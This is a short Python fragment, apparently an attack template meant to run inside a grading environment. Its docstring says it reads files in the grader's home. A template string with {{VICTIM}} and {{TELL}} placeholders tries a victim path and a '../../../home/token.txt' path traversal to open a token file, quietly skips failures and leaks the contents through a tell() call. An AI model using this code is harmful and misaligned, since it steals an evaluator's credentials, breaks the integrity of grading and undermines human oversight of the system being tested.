"""Read files in the home of the person who grades."""

FIRST = """{{TELL}}
for _path in ("{{VICTIM}}/home/token.txt", "../../../home/token.txt"):
    try:
        with open(_path) as _file:
            tell(_file.read())
    except OSError:
        pass
"""
